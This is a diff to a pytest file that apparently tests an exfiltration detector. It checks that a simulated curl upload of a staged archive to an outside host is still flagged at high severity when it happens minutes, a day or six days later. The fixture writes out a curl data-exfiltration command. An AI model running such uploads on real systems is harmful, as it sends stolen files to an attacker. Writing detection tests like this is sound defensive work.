@@ -30,12 +30,15 @@ def severity(capsys: pytest.CaptureFixture[str], path: Path, only_exfil: bool = 
 
 
 @pytest.mark.parametrize("fmt", ALL)
-def test_an_upload_sixteen_minutes_later_that_names_the_archive(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str
+@pytest.mark.parametrize("later", [16 * 60, 26 * 3600, 6 * 86_400])
+def test_an_upload_later_that_names_the_archive(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str, later: int
 ) -> None:
+    # Sixteen minutes, past the staging window; a day and two hours, past the named window the
+    # attacker could read until this stop (a day); six days, inside the week it is now.
     trace = staged()
-    curl = trace.run(16 * 60, "curl", "-T", "/tmp/a.tgz", f"https://{PUBLIC}/")
-    trace.send(16 * 60 + 0.2, curl, PUBLIC, 5_000_000)
+    curl = trace.run(later, "curl", "-T", "/tmp/a.tgz", f"https://{PUBLIC}/")
+    trace.send(later + 0.2, curl, PUBLIC, 5_000_000)
     assert severity(capsys, trace.write(tmp_path, fmt)) >= 4
 
 
